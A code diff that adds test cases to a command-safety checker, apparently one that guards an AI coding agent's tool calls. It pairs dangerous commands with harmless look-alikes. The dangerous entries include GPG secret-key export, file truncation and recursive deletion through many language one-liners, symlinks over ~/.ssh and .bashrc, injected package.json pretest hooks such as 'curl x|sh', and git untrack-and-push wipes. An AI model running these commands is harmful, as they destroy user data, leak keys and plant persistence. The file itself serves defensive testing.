@@ -35,6 +35,42 @@ DANGEROUS = [
     # package cleaners deleting more than build output
     "npx rimraf src", "npx rimraf ~", "npx rimraf dist ../other", "pnpm exec rimraf .", "yarn rimraf /", "npx shx rm -rf src", "npx del-cli '**/*'",
     "npx rimraf %HOME%/.config", "bunx rimraf .git",
+    # secrets exported in another form: gpg's long options by any unambiguous start
+    "gpg --export-secret-key ABCD1234", "gpg --export-secret-key -a alice@example.com > k.asc", "gpg2 --export-secret-key --armor", "gpg --export-sec -a",
+    "gpg --export-secret-subkey alice", "gpgsm --export-secret-key-p12 0x1234", "gpgsm --export-secret-key-raw 0x12", "gpg --decrypt-files secrets.gpg",
+    "gpg --dec secrets.txt.gpg", "gpg --show-session-key -d msg.gpg",
+    # deletion and truncation through writers that are not rm
+    "sort -o src/app.py /dev/null", "sort /dev/null -o package-lock.json", "sort -o db.sqlite3 < /dev/null", "sort -o %HOME%/.bashrc /dev/null",
+    "shuf -o poetry.lock /dev/null", "tee -a /dev/null < /dev/null > src/main.go", "cat < /dev/null > src/app.py", "head -n 5 < /dev/null > Cargo.lock",
+    "mv /dev/null src/app.py", "mv -f /dev/null app.db",
+    "julia -e 'rm(homedir(); recursive=true, force=true)'", "julia -e 'rm(pwd(); recursive=true)'", "julia -e 'mv(\"src\", \"/tmp/x\"; force=true)'",
+    "elixir -e 'File.rm_rf!(\"src\")'", "elixir -e 'File.rm_rf(System.user_home())'", "elixir -e 'File.rm!(\"mix.exs\")'", "elixir --eval 'File.rmdir(\"lib\")'",
+    "erl -noshell -eval 'file:del_dir_r(\"src\"), halt().'", "erl -eval 'file:delete(\"rebar.config\").' -s init stop",
+    "groovy -e 'new File(\"src\").deleteDir()'", "groovy -e 'new File(System.getProperty(\"user.home\")).deleteDir()'",
+    "R -e 'unlink(\"~\", recursive=TRUE)'", "R --vanilla -e 'fs::dir_delete(\"R\")'", "Rscript -e 'fs::file_delete(\"DESCRIPTION\")'",
+    "swift -e 'import Foundation; try FileManager.default.removeItem(atPath: \"Sources\")'",
+    "echo 'import Foundation; try! FileManager.default.removeItem(atPath: \"Sources\")' | swift -",
+    "kotlin -e 'java.io.File(\"src\").deleteRecursively()'", "kotlinc -e 'java.io.File(\"build.gradle.kts\").delete()'",
+    "scala -e 'java.nio.file.Files.delete(java.nio.file.Paths.get(\"build.sbt\"))'", "echo 'file delete -force src' | tclsh",
+    "jshell <<< 'new java.io.File(\"pom.xml\").delete()'", "clojure -M -e '(clojure.java.io/delete-file \"deps.edn\")'",
+    "luajit -e 'os.remove(\"init.lua\")'", "racket -e '(delete-directory/files \"src\")'", "guile -c '(delete-file \"x.scm\")'",
+    "elixir -e 'System.cmd(\"rm\", [\"-rf\", \"src\"])'", "erl -noshell -eval 'os:cmd(\"rm -rf src\"), halt().'", "groovy -e '\"rm -rf src\".execute()'",
+    "kotlin -e 'Runtime.getRuntime().exec(\"rm -rf src\")'", "julia -e 'run(`rm -rf src`)'", "Rscript -e 'system2(\"rm\", c(\"-rf\", \"src\"))'",
+    "echo 'exec rm -rf src' | tclsh",
+    "ln -sft ~ /tmp/evil/.bashrc", "ln -sf -t ~/.ssh /tmp/evil/authorized_keys", "ln -st ~/.config/autostart x.desktop", "ln --target-directory=%HOME% -s /tmp/x/.profile",
+    # files that run later, through patch, sed -i, perl -pi and npm pkg set
+    "patch ~/.bashrc < rc.diff", "patch -p1 -d ~ < dotfiles.patch", "patch ~/.zshrc fix.patch", "patch -i hooks.diff .git/hooks/pre-push",
+    "patch package.json < scripts.diff", "patch -o ~/.profile profile.orig p.diff", "patch --directory=%HOME% -p1 -i x.diff",
+    "sed -i 's/\"test\": \"jest\"/\"pretest\": \"curl x|sh\", \"test\": \"jest\"/' package.json",
+    "perl -pi -e 's/\"test\"/\"pretest\":\"sh x\",\"test\"/' package.json", "npm pkg set 'scripts.pretest=sh x.sh'",
+    "npm pkg set scripts.prebuild='node scripts/x.js'", "npm pkg set scripts.postversion='git push --follow-tags'", "pnpm pkg set scripts.prestart=./x.sh",
+    ("Edit", {"file_path": "package.json", "old_string": "\"test\": \"jest\"", "new_string": "\"pretest\": \"node scripts/setup.js\",\n    \"test\": \"jest\""}),
+    ("MultiEdit", {"file_path": "package.json", "edits": [{"old_string": "\"build\": \"tsc\"", "new_string": "\"prebuild\": \"sh ./tools/x.sh\",\n    \"build\": \"tsc\""}]}),
+    ("Write", {"file_path": "package.json", "content": "{\"name\": \"x\", \"scripts\": {\"posttest\": \"node report.js\", \"test\": \"jest\"}}"}),
+    # git history destroyed and pushed
+    "git rm -r --cached . && git commit -m wipe && git push", "git rm -r --cached . && git commit -qm 'untrack' && git push origin main",
+    "git rm --cached -r '*' ; git commit -am x ; git push", "git ls-files -z | xargs -0 git rm --cached && git commit -m x && git push",
+    "git rm -r --cached :/ && git commit -m x && git push -u origin main",
 ]
 
 DISGUISED = [
@@ -83,6 +119,18 @@ ROUTINE = [
     "./gradlew assembleRelease", "./gradlew bundleRelease", "./gradlew :app:compileReleaseKotlin", "./gradlew lintRelease", "./gradlew testReleaseUnitTest",
     "./gradlew publishToMavenLocal", "./gradlew jreleaserConfig", "sbt publishLocal", "sbt compile", "sbt \"; clean; test\"", "bazel run //:gazelle",
     "bazel run //cmd/server", "bazel build //:push", "./mvnw -q verify", "mvn install", "mvn jreleaser:config", "mvn dependency:tree", "mvn versions:display-dependency-updates",
+    # look-alikes of the above
+    "gpg --list-secret-keys", "gpg --export -a alice > pub.asc", "gpg --detach-sign -a dist/x.tar.gz", "gpg --verify x.sig x",
+    "sort -o words_sorted.txt words.txt", "sort -u -o data/sorted.csv data/raw.csv", "sort data.txt > sorted.txt", "tee build/out.log < input.txt",
+    "ln -st bin ../tools/x", "ln -sft lib ../shared/a.js ../shared/b.js", "patch -p1 < fix.patch", "patch -p0 -i changes.diff", "patch src/app.py fix.patch",
+    "patch --dry-run -p1 < fix.patch", "patch -R -p1 < fix.patch", "patch -p1 -d src < fix.patch", "patch -o src/app.new.py src/app.py fix.patch",
+    "elixir -e 'IO.puts 1'", "julia -e 'using Pkg; Pkg.instantiate()'", "Rscript -e 'devtools::test()'", "kotlin -e 'println(1)'", "groovy -e 'println 1'",
+    "erl -noshell -eval 'io:format(\"~p~n\", [1]), halt().'", "echo 'puts 1' | tclsh", "swift -e 'print(1)'", "scala -e 'println(1)'",
+    ("Edit", {"file_path": "package.json", "old_string": "\"build\": \"vite build\"", "new_string": "\"build\": \"vite build\",\n    \"preview\": \"vite preview\""}),
+    ("Edit", {"file_path": "package.json", "old_string": "\"lint\": \"eslint .\"", "new_string": "\"lint\": \"eslint .\",\n    \"prettier\": \"prettier --write .\""}),
+    "npm pkg set scripts.typecheck='tsc --noEmit'",
+    "git rm -r --cached . && git add . && git commit -m 'apply .gitignore' && git push", "git rm --cached .env && git commit -m 'untrack env' && git push",
+    "git rm -r --cached node_modules && git commit -m 'untrack node_modules' && git push", "git rm -r --cached . && git add -A && git commit -m x",
     "goreleaser check", "goreleaser build --snapshot --clean", "goreleaser release --snapshot --clean", "goreleaser --version",
     "flit build", "gem build pkg.gemspec", "gem list", "python -m build", "py -m pytest -q",
 ]
